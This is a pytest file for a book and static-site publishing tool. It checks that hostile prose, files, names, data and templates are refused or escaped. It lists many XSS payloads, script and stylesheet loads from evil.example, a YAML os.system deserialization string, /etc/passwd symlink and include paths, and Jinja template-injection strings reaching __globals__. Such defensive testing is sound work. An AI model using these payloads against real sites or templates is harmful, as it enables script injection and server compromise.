"""A book and prose as an attacker, or a careless editor, would write them: nothing runs, nothing leaves its
folder, nothing hangs; what is text stays text in every output.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import time
import typing
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote
from xml.etree import ElementTree

import pytest
from conftest import DAY, ROOT, TOOL_PAGES, visit
from playwright.sync_api import Browser
from pydantic import AfterValidator

from kefu import checks, fields, markup, pdfread
from kefu.checks import prose
from kefu.checks.prose import Reader
from kefu.model import Channel, Record, records_in, texts_in
from kefu.model import Path as TapPath
from kefu.problem import BookError
from kefu.prose import parse
from kefu.publish import active, release
from kefu.publish.site import build_site
from kefu.render import Renderer
from kefu.tools import TOOLS

SMALL = ROOT / "tests" / "books" / "small"


@pytest.fixture
def book(tmp_path: Path) -> Path:
    """A copy of the made-up book."""
    return shutil.copytree(SMALL, tmp_path / "book")


def problems(root: Path) -> list[str]:
    """What the checks say, one line a problem."""
    try:
        checks.open_checked(root, DAY)
    except BookError as error:
        return [str(one) for one in error.problems]
    return []


@pytest.fixture(scope="module")
def reader() -> Reader:
    """The made-up book, ready to hold prose against it."""
    return Reader(checks.open_checked(SMALL, DAY))


def said(reader: Reader, text: str) -> list[str]:
    """What the rules for prose say of a page, one line a problem."""
    return [str(one) for one in prose.run(reader, parse(text, "content/guides/hostile.md"))]


# Prose

ACTIVE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr\nipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    '<img src="x" title=">" onerror="alert(1)">',
    "<img src=//evil.example/x.png>",
    "<img src='&#104;ttps://evil.example/x.png'>",
    "<b onmouseover=alert(1)>x</b>",
    "<b\nonclick\n=\nalert(1)>x</b>",
    "<b onclick=alert(1)",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object>",
    "<embed src=x>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=https://evil.example><input name=q></form>",
    "<textarea><a title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><b>x</b></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    '<p id="__config">{}</p>',
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' &#1; javascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JaVaScRiPt:alert(1) 'title')",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](https://evil.example/x.png)",
    "![x](//evil.example/x.png)",
    "![x][y]\n\n[y]: https://evil.example/x.png",
    "[x](#a){onclick=alert(1)}",
    "[x](#a){: onclick='alert(1)' }",
    "[x](#a){style=position:fixed}",
    "[x](#a){href=javascript:alert(1)}",
    "## x {#__palette}",
    "<javascript:alert(1)>",
)
HARMLESS = (
    "<kbd>Ctrl</kbd> + <b>C</b>",
    "5 < 6，a<5，1 > 0",
    "<https://www.example.com/a?b=c>，<someone@example.org>",
    "[x](https://www.example.com/a_(b)) 和 [y](../about/index.md#report)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "<!-- 给编辑看的话 -->",
    "## 小节 {#part .wide}",
    '<abbr title="订单">单</abbr><br>下一行',
    "<details><summary>更多</summary>内容</details>",
    "javascript: 和 onclick= 只是字",
    "{{ 7*7 }} {% raw %} ${x} `a`",
)


@pytest.mark.parametrize("text", ACTIVE)
def test_prose_that_does_something_is_refused_at_its_place(text: str, reader: Reader) -> None:
    found = said(reader, f"# 指南\n\n说明 {text}\n")
    assert found
    assert all(re.match(r"content/guides/hostile\.md:[3-7]:\d+: .*\(prose-markup\)$", one) for one in found)


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_prose_passes(text: str, reader: Reader) -> None:
    assert said(reader, f"# 指南\n\n{text}\n") == []


@pytest.mark.parametrize(
    "text",
    [
        "---\ntitle: x\ntemplate: 404.html\n---\n",
        "---\ntitle: &a [*a]\n---\n",
        "---\ntitle: !!python/object/apply:os.system [id]\n---\n",
        "---\ntitle: |\n  x\n---\n",
        "---\ntitle: x\n...\n",
        "--- \ntitle: x\ntemplate: 404.html\n---\n",
        "---\ntitle: x\n",
        "template: 404.html\n\nx\n",
    ],
)
def test_front_matter_is_plain(text: str, reader: Reader) -> None:
    assert any(one.endswith("(prose-front)") for one in said(reader, text))


HANGING = (
    "[",
    "[](",
    "![",
    "[a](",
    "> ",
    ">",
    "1. ",
    "- ",
    "**a",
    "*a _b",
    "|a",
    "` a",
    "<a ",
    "<!--",
    "{: ",
    "(",
    "&#",
)


@pytest.mark.parametrize("piece", HANGING)
def test_nothing_hangs(piece: str, reader: Reader) -> None:
    began = time.process_time()
    assert said(reader, "一\n\n" + piece * (30_000 // len(piece)))
    assert time.process_time() - began < 2


# What is published

HIDDEN = (
    "<a title='</textarea><img src=x onerror=alert(1)>'>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<b x='>' onclick=alert(1)>",
    "<b title='\"' onclick=alert(1) \"'>",
    "<img src=x onerror=alert(1) <p>",
    "<p\x0conclick=alert(1)>",
    "<style>p { background: u\\72l(//evil.example) }</style>",
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=/\\evil.example/x.js></script>",
    "<img srcset='a.png 1x, //evil.example/b.png 2x'>",
    "<link rel='preload stylesheet' href=https://evil.example/x.css>",
    "<a href='\x01java\nscript:alert(1)'>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<svg:script>alert(1)</svg:script>",
    "<meta http-equiv='refresh' content='0'>",
    "<video poster=//evil.example/x.png></video>",
)


@pytest.mark.parametrize("text", HIDDEN)
def test_no_trick_hides_what_is_published(text: str, tmp_path: Path) -> None:
    (tmp_path / "index.html").write_text(f"<!doctype html>\n<p>x</p>\n{text}\n", "utf-8")
    assert [one.where.line for one in active.check(tmp_path, "dist/site")]


def test_styles_and_pictures_load_nothing(tmp_path: Path) -> None:
    (tmp_path / "a.css").write_text("@import url(//evil.example/x.css);", "utf-8")
    (tmp_path / "b.css").write_text('p::before { content: "\\201c"; background: url(x.png) }', "utf-8")
    (tmp_path / "c.svg").write_text('<!DOCTYPE svg [<!ENTITY x "<script/>">]><svg/>', "utf-8")
    (tmp_path / "d.svg").write_text(
        '<svg><a href="https://www.example.com/"><text>x</text></a></svg>', "utf-8"
    )
    assert {one.where.path for one in active.check(tmp_path, "s")} == {"s/a.css", "s/c.svg"}


def test_harmless_pages_pass() -> None:
    text = "".join(f"<p>{one}</p>" for one in ("1 &lt; 2", '<a href="tel:12315">x</a>', '<img src="a.png">'))
    assert list(markup.faults(f"<!doctype html><!-- x -->{text}")) == []


# Files


@pytest.mark.parametrize("folder", ["content", "data", "data/entities", "content/assets", "templates"])
@pytest.mark.parametrize("target", ["/etc/passwd", "/etc", "../../..", ".", "nowhere"])
def test_links_are_not_followed(folder: str, target: str, book: Path) -> None:
    (book / folder).mkdir(exist_ok=True)
    (book / folder / "link.yml").symlink_to(target)
    assert any(f"{folder}/link.yml: 是符号链接" in one for one in problems(book))


@pytest.mark.parametrize("path", ["data/entities/x.yml", "content/x.md", "content/assets/x.js"])
def test_pipes_are_not_read(path: str, book: Path) -> None:
    (book / path).parent.mkdir(exist_ok=True)
    os.mkfifo(book / path)
    assert any(f"{path}: 不是普通文件" in one for one in problems(book))


@pytest.mark.parametrize(
    "name",
    [
        "a b.md",
        "<b>.md",
        "a\nb.md",
        'x"y.png',
        "aux.md",
        "COM1.png",
        "-.",
        "e\u0301.md",
        "a" * 120 + ".md",
        "a..md.",
    ],
)
def test_odd_names_are_refused(name: str, book: Path) -> None:
    (book / "content" / name).write_text("x\n", "utf-8")
    assert any("(content-file)" in one and "\n" not in one for one in problems(book))


def test_names_that_are_no_text_are_refused(book: Path) -> None:
    (Path(os.fsdecode(os.fsencode(book) + b"/content/\xff.md"))).write_text("x\n", "utf-8")
    assert any("(content-file)" in one.encode("utf-8").decode() for one in problems(book))


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.md", b"\xff\xfe"),
        ("a.md", b"x\n" * 60_000),
        ("a.png", b"<svg onload=alert(1)>"),
        ("a.svg", b"<svg><script>alert(1)</script></svg>"),
        ("a.svg", "<svg onload='alert(1)'/>".encode("utf-16")),
        ("a.svg", b"<?xml-stylesheet href='//evil.example/x.xsl'?><svg/>"),
        ("a.svg", b"<svg><foreignObject><p/></foreignObject></svg>"),
        ("a.svg", b"<svg><a><animate attributeName='href' values='javascript:alert(1)'/></a></svg>"),
        ("a.svg", b"<svg><use href='//evil.example/x.svg#a'/></svg>"),
        ("a.html", b"<p>x</p>"),
        ("a.xml", b"<x/>"),
        ("a.exe", b"MZ"),
        ("a.js", b"alert(1)"),
        ("a", b"x"),
    ],
)
def test_files_that_are_not_what_they_should_be(name: str, content: bytes, book: Path) -> None:
    (book / "content" / name).write_bytes(content)
    assert any(f"content/{name}" in one and "(content-" in one for one in problems(book))


# Data


@pytest.mark.parametrize(
    "wrong",
    ["../evil", "..", "a/b", "a\\\\b", "con", "nul", "com1", "<b>", "a b", "A", "", "a" * 49, "\\u202eab"],
)
def test_ids_stay_in_their_folder(wrong: str, book: Path) -> None:
    file = book / "data" / "entities" / "ding.yml"
    file.write_text(file.read_text("utf-8").replace("id: ding", f'id: "{wrong}"'), "utf-8")
    assert any(one.startswith("data/entities/ding.yml:1:5: ") for one in problems(book))


@pytest.mark.parametrize(
    "char", ["\u202e", "\u200b", "\u2066", "\\u202e", "\\r\\n", "\\0", "\\x1b", "\ufeff"]
)
def test_invisible_characters_are_refused(char: str, book: Path) -> None:
    file = book / "data" / "book.yml"
    file.write_text(file.read_text("utf-8").replace("编造的书", f"编造{char}的书"), "utf-8")
    assert any(one.startswith("data/book.yml:2:") for one in problems(book))


def test_endless_texts_are_refused(book: Path) -> None:
    file = book / "data" / "book.yml"
    file.write_text(file.read_text("utf-8").replace("编造的书", "书" * 1_001), "utf-8")
    assert [one for one in problems(book) if "最多 1,000" in one]


# A whole book in which every text is hostile

EVIL = (
    "<script>x</script>",
    '"><img src=x onerror=x>',
    "</title><script>x",
    "{{7*7}}{% raw %}",
    "]]>&amp;<!--",
    "#panic()$x$@ref",
    "*b*`id`$(id)\\u0041",
    "javascript:alert(3)",
)
"""What is appended to texts, one after the other."""


def free_texts(model: type[Record]) -> Iterator[str]:
    """The fields of a model that hold any text at all."""
    for name, hint in typing.get_type_hints(model, include_extras=True).items():
        if name in model.model_fields and any(map(is_free, annotated(hint))):
            yield name


def annotated(hint: Any) -> Iterator[tuple[Any, ...]]:
    yield getattr(hint, "__metadata__", ())
    for inner in typing.get_args(hint):
        yield from annotated(inner)


def is_free(marks: tuple[Any, ...]) -> bool:
    validators = [one.func for one in marks if isinstance(one, AfterValidator)]
    return validators == [typing.get_args(fields.Text)[1].func]


def poisoned(root: Path) -> dict[str, int]:
    """Append hostile markup to every free text of the book below `root`; gives how many by file.

    Not to labels of buttons, names of channels and statuses: the sweep refuses those that it cannot read back
    out of a sentence.
    """
    judge = checks.open_checked(root, DAY)
    changes: dict[str, list[tuple[int, int, str]]] = {}
    count = 0
    words = judge.book.words
    for record in (judge.book.settings, *records_in(words), *judge.book.records):
        if record in words.statuses:
            continue
        free = set(free_texts(type(record))) - {"icon", "words", "weak", "aliases"}
        for at, text in texts_in(record):
            label = isinstance(record, TapPath) and at[0] in ("steps", "start")
            if at[0] in free and not label and not (isinstance(record, Channel) and at[0] == "name"):
                where = record.where(*at)
                evil = EVIL[count % len(EVIL)]
                count += 1
                changes.setdefault(where.path, []).append((where.line, where.column, text + " " + evil))
    for path, found in changes.items():
        lines = (root / path).read_text("utf-8").split("\n")
        for line, column, text in sorted(found, reverse=True):
            old = lines[line - 1]
            end = re.compile(r'"[^"]*"').match(old, column - 1)
            assert end, (path, line, old)
            lines[line - 1] = old[: column - 1] + json.dumps(text, ensure_ascii=False) + old[end.end() :]
        (root / path).write_text("\n".join(lines), "utf-8")
    return {path: len(found) for path, found in changes.items()}


PROSE = """---
title: 标题 </title><script>alert(1)</script> "x" {{7*7}}
description: 说明 "><img src=x onerror=alert(1)> {{7*7}} &lt;
---

# 标题 &lt;script&gt;alert(1)&lt;/script&gt; {#report}

正文 {{7*7}} {% raw %} &lt;img src=x onerror=alert(1)&gt; `<b>` $x$ #panic()

## 小节 &lt;i&gt; "x"
"""
OURS = re.compile(r"assets/(?:(?:search|tools)/\w+|\w+)(?:\.[0-9a-f]{8})?(?:\.min)?\.js$")


DATA = ("kf-calendar",)


class Tags(HTMLParser):
    """What a parser other than ours makes of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: set[str] = set()
        self.faults: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        values = {name: value or "" for name, value in attributes}
        if tag == "script" and not (OURS.search(values.get("src", "")) or values.get("id") in DATA):
            self.faults.append(f"<script {values}>")
        if tag in ("iframe", "object", "embed", "base", "i", "x") or (tag == "img" and values["src"] == "x"):
            self.faults.append(f"<{tag} {values}>")
        for name, value in values.items():
            scheme = value.strip().partition(":")[0].lower()
            address = name in ("href", "src", "action", "xlink:href")
            if name.startswith("on") or (address and scheme in ("javascript", "data", "vbscript")):
                self.faults.append(f"<{tag} {name}={value}>")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Everything that is published of a book in which every text is hostile."""
    root = shutil.copytree(SMALL, tmp_path_factory.mktemp("hostile") / "book")
    assert sum(poisoned(root).values()) > 100
    (root / "content" / "about" / "index.md").write_text(PROSE, "utf-8")
    release.build(root, root / "dist", DAY)
    return root / "dist"


@pytest.mark.site
def test_every_page_of_a_hostile_book_is_text(hostile: Path) -> None:
    pages = [*(hostile / "site").rglob("*.html"), *(hostile / "offline").rglob("*.html")]
    assert len(pages) > 60
    said = 0
    for file in pages:
        text = file.read_text("utf-8")
        assert Tags(text).faults == [], file
        article = re.sub(r'id="kf-calendar">.*?</script>', "", text.partition("<article")[2])
        assert "49" not in re.sub(r"\{\{7\*7\}\}", "", article) or "{{7*7}}" in text
        said += "{{7*7}}" in text
    assert said > 60


@pytest.mark.site
def test_titles_and_descriptions_of_prose_are_text(hostile: Path) -> None:
    text = (hostile / "site" / "about" / "index.html").read_text("utf-8")
    assert "<title>标题 &lt;/title&gt;&lt;script&gt;" in text
    assert 'content="说明 &quot;&gt;&lt;img src=x' in text
    assert "<script>alert" not in text and "<img src=x" not in text


@pytest.mark.site
def test_every_other_file_of_a_hostile_book_is_whole(hostile: Path) -> None:
    site = hostile / "site"
    for file in (*site.rglob("*.svg"), *site.rglob("*.xml")):
        root = ElementTree.parse(file).getroot()
        names = {one.tag.rpartition("}")[2] for one in root.iter() if isinstance(one.tag, str)}
        assert not names & {"script", "foreignObject", "image", "iframe", "x"}, file
        assert not [name for one in root.iter() for name in one.attrib if name.startswith("on")], file
    for file in (site / "search").rglob("*.js"):
        call = re.fullmatch(r"[\w.]+\((.*)\);?\s*", file.read_text("utf-8"), re.DOTALL)
        assert call, file
        json.loads(call[1])


@pytest.mark.site
def test_papers_show_a_hostile_book_literally(hostile: Path) -> None:
    files = sorted((hostile / "pdf").glob("*.pdf"))
    assert files
    for file in files:
        read = pdfread.read(file.read_bytes())
        assert not [one for one in read.links if not one.address.startswith(("http", "tel:", "#", ""))]
    whole = "".join(pdfread.read(file.read_bytes()).squeezed for file in files)
    for wanted in ("".join(one.split()) for one in EVIL):
        assert wanted in whole, wanted


@pytest.mark.site
def test_templates_of_the_book_itself_cannot_publish_scripts(tmp_path: Path) -> None:
    root = shutil.copytree(SMALL, tmp_path / "book")
    page = Path("templates", "pages", "status.html.jinja")
    (root / page).parent.mkdir(parents=True)
    (root / page).write_text((ROOT / page).read_text("utf-8") + "<p onclick='alert(1)'>x</p>\n", "utf-8")
    with pytest.raises(BookError) as caught:
        build_site(root, tmp_path / "site", DAY)
    assert {one.rule for one in caught.value.problems} == {"published-active"}


SSTI = (
    "{{ ''['__class__']['__mro__'] }}",
    "{{ book|attr('__init__')|attr('__globals__') }}",
    "{{ cycler['__init__']['__globals__']['os'].environ }}",
    "{{ label['__func__']['__globals__'] }}",
    "{% include '../../../../../../etc/passwd' %}",
    "{% include '/etc/passwd' %}",
)


@pytest.mark.parametrize("code", SSTI)
def test_templates_of_another_tree_reach_nothing_of_the_program(code: str, book: Path) -> None:
    page = Path("templates", "pages", "guides.html.jinja")
    (book / page).parent.mkdir(parents=True)
    (book / page).write_text(f"{code}\n", "utf-8")
    try:
        made = Renderer(checks.open_checked(book, DAY), book).guide_index().html
    except BookError:
        return
    assert "__globals__" not in made and "object" not in made and "root:" not in made, made


def test_templates_of_papers_fetch_nothing(book: Path) -> None:
    (book / "templates" / "print").mkdir(parents=True)
    (book / "templates" / "print" / "card.typ").write_text('x\n#import "@preview/x:1.0.0"\n', "utf-8")
    assert [one for one in problems(book) if one.startswith("templates/print/card.typ:2:9: ")]


# In a browser

SCRIPTED = '<img src=x onerror=alert(1)>"><script>alert(2)</script>'


@pytest.mark.browser
@pytest.mark.parametrize(
    "at",
    [
        f"?q={quote(SCRIPTED)}",
        f"#{quote(SCRIPTED)}",
        "#javascript:alert(1)",
        f"?q=x&h={quote(SCRIPTED)}",
        f"?__proto__[x]=1&q={quote('javascript:alert(1)')}",
        f"platforms/jd/#{SCRIPTED}",
        f"problems/?q={quote('京东' + SCRIPTED)}#x",
        f"nowhere/{quote(SCRIPTED)}/",
    ],
    ids=["query", "fragment", "scheme", "other", "prototype", "section", "both", "nowhere"],
)
def test_addresses_run_nothing(at: str, browser: Browser, address: str) -> None:
    page = visit(browser, "about:blank")
    faults: list[str] = []
    page.on("dialog", lambda dialog: faults.append(dialog.message))
    page.on("pageerror", lambda error: faults.append(str(error)))
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(address + at)
    page.wait_for_timeout(300)
    assert faults == []
    assert page.locator("img[src=x], script:not([src]):not([type='application/json'])").count() == 0
    assert all(one.startswith(address) for one in asked)
    page.context.close()


@pytest.mark.browser
@pytest.mark.parametrize(
    "kept",
    [
        json.dumps([SCRIPTED, "javascript:alert(1)", SCRIPTED]),
        json.dumps([{"toString": SCRIPTED}, [SCRIPTED], 7, None]),
        json.dumps({"length": 3, "0": SCRIPTED}),
        json.dumps({"color": {"media": SCRIPTED, "scheme": SCRIPTED, "accent": "javascript:alert(1)"}}),
        "7",
        "null",
        "[[[",
    ],
    ids=["texts", "others", "object", "palette", "number", "null", "broken"],
)
def test_what_is_kept_in_the_browser_runs_nothing(kept: str, browser: Browser, address: str) -> None:
    page = visit(browser, address)
    page.click("button.kf-opener--search")
    page.wait_for_selector(".kf-search__group")
    page.check(".md-search .kf-keep input")
    page.fill("input[name=q]", "改地址")
    page.wait_for_selector(".md-search-result__link")
    page.keyboard.press("Enter")
    page.wait_for_url("**/problems/order-change/**")
    keys = page.evaluate("() => Object.keys(localStorage)")
    assert keys == ["kefu.searches"]
    script = "([keys, kept]) => { for (const key of keys) localStorage.setItem(key, kept); }"
    tools = [f"kefu.{tool}" for tool in TOOLS]
    page.evaluate(script, [[*keys, *tools, "kefu.large", "/.__palette"], kept])
    faults: list[str] = []
    page.on("dialog", lambda dialog: faults.append(dialog.message))
    page.goto(address)
    page.click("button.kf-opener--search")
    page.wait_for_selector(".kf-search__group")
    page.on("pageerror", lambda error: faults.append(str(error)))
    for place in TOOL_PAGES.values():
        page.goto(address + place)
        page.wait_for_selector(".kf-tool:not([hidden])")
    assert faults == []
    assert page.locator("img[src=x], [onerror], .md-search script").count() == 0
    page.context.close()
